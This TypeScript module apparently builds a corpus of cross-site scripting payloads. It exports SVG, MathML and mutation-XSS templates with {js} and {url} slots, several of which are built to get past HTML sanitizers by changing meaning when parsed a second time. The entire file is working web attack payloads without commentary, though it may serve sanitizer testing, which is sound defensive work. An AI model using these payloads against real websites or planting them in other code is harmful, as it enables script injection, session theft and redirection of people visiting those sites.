import { cross } from './cross.ts';

const svg = [
  '<svg><script>{js}</script></svg>',
  '<svg><script href="data:text/javascript,{js}"></script></svg>',
  '<svg><script xlink:href="{url}.js"></script></svg>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><set onbegin={js} attributeName=x to=1>',
  '<svg><animateTransform onbegin={js} attributeName=transform dur=1s>',
  '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:{js} /><text x=20 y=20>x</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:{js} /><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,%3Csvg id=x xmlns=http://www.w3.org/2000/svg onload={js}%3E#x"></use></svg>',
  '<svg><use xlink:href="{url}.svg#x"></use></svg>',
  '<svg><image href="{url}.png"></image></svg>',
  '<svg><image href="x" onerror={js}></image></svg>',
  '<svg><feImage href="{url}.png"></feImage></svg>',
  '<svg><image><animate attributeName=href to={url}.png begin=0s dur=1s fill=freeze /></image></svg>',
  '<svg><foreignObject><body onload={js}></foreignObject></svg>',
  '<svg><style>*{background:url({url}.png)}</style></svg>',
  '<svg><title><![CDATA[</title><img src=x onerror={js}>]]></title></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>{js}</script>">]><svg>&x;</svg>',
];

const mathml = cross(
  ['<math>§</math>', '<math><annotation-xml encoding="text/html">§</annotation-xml></math>'],
  [
    '<mtext><img src=x onerror={js}></mtext>',
    '<maction actiontype="statusline" xlink:href="javascript:{js}">x</maction>',
    '<a href="javascript:{js}">x</a>',
    '<mi xlink:href="data:text/html,&lt;script&gt;{js}&lt;/script&gt;">x</mi>',
    '<script>{js}</script>',
  ],
);

/** Harmless as it is parsed, and another thing when what was parsed is written and parsed again. */
const mutation = cross(
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;§">',
    '<form><math><mtext></form><form><mglyph><style></math>§',
    '<svg></p><style><a id="</style>§">',
    '<noscript><p title="</noscript>§">',
    '<math><annotation-xml encoding="text/html"><style><img title="</style>§">',
    '<template><s><template><s>§</s></template></s></template>',
  ],
  [
    '<img src=x onerror={js}>',
    '&lt;img src=x onerror={js}&gt;',
    '<link rel=preconnect href={url}><meta http-equiv=refresh content=0;url={url}>',
  ],
);

export const foreignPayloads = { svg, mathml, mutation };
